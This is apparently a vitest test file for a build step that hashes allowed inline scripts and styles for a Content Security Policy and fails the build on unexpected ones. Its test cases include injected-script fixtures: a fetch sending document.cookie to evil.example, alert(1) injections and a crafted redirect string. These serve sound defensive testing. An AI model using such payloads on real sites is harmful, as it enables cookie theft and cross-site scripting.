import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import {afterEach, expect, test} from 'vitest';
import {
  cspHash,
  exactly,
  inlineScriptHashes,
  inlineStyleHashes,
  REDIRECT_PAGE_SCRIPT,
  UnexpectedInlineScriptError,
  UnexpectedInlineStyleError,
} from './inlineScripts';

const DECLARED = '!function(){document.documentElement.setAttribute("data-declared","")}()';
const ALLOWED = [exactly('configuration and plugins', [DECLARED]), REDIRECT_PAGE_SCRIPT];
const redirect = (to: string) =>
  `\n    window.location.href = '${to}' + window.location.search + window.location.hash;\n  `;

let root: string;

function buildWith(pages: Record<string, string>): string {
  root = fs.mkdtempSync(path.join(os.tmpdir(), 'inline-scripts-'));
  for (const [file, html] of Object.entries(pages)) {
    fs.mkdirSync(path.dirname(path.join(root, file)), {recursive: true});
    fs.writeFileSync(path.join(root, file), html);
  }
  return root;
}

afterEach(() => fs.rmSync(root, {recursive: true, force: true}));

test('the scripts the site means are hashed once each; data blocks and script files are not scripts to allow', () => {
  const hashes = inlineScriptHashes(
    buildWith({
      'index.html': `<head><script>${DECLARED}</script><script type="application/ld+json">{"a":1}</script></head>`,
      'fr/index.html': `<script>${DECLARED}</script><script src="/assets/js/main.js"></script>`,
      'docs/index.html': `<script>${redirect('/docs/about-chatgnb/what-is-chatgnb')}</script>`,
    }),
    ALLOWED,
  );
  expect(hashes).toEqual([cspHash(DECLARED), cspHash(redirect('/docs/about-chatgnb/what-is-chatgnb'))].sort());
});

test.each([
  ['a script an article let in', '<p>Hi</p><script>fetch("https://evil.example/?"+document.cookie)</script>'],
  ['an announcement with a script', '<div class="announcement"><script>alert(1)</script></div>'],
  ['a redirect page that leaves the site', `<script>${redirect('//evil.example/x')}</script>`],
  ['a redirect page to a crafted address', `<script>${redirect("/x' + alert(1) + '")}</script>`],
  ['an allowed script with one more statement', `<script>${DECLARED};alert(1)</script>`],
])('%s stops the build, naming the page', (_, html) => {
  const build = buildWith({'index.html': `<script>${DECLARED}</script>`, 'docs/article.html': html});
  expect(() => inlineScriptHashes(build, ALLOWED)).toThrow(UnexpectedInlineScriptError);
  expect(() => inlineScriptHashes(build, ALLOWED)).toThrow('docs/article.html: <script>');
});

const PAGE_STYLE = 'html[data-known] main{display:block}';
const OWN_PAGE_STYLE = 'body{margin:0}';

test('the declared styles are hashed once each, whether their page is written yet or not', () => {
  const build = buildWith({
    'index.html': `<head><style>${PAGE_STYLE}</style></head>`,
    'fr/index.html': `<style>${PAGE_STYLE}</style><p style="color:red">Styled</p>`,
  });
  expect(inlineStyleHashes(build, [PAGE_STYLE, OWN_PAGE_STYLE, PAGE_STYLE])).toEqual(
    [cspHash(PAGE_STYLE), cspHash(OWN_PAGE_STYLE)].sort(),
  );
});

test('a style no capability declares stops the build, naming the page', () => {
  const build = buildWith({
    'index.html': `<style>${PAGE_STYLE}</style>`,
    'docs/article.html': '<style>main{display:none}</style>',
  });
  expect(() => inlineStyleHashes(build, [PAGE_STYLE])).toThrow(UnexpectedInlineStyleError);
  expect(() => inlineStyleHashes(build, [PAGE_STYLE])).toThrow('docs/article.html: <style>main{display:none}');
});
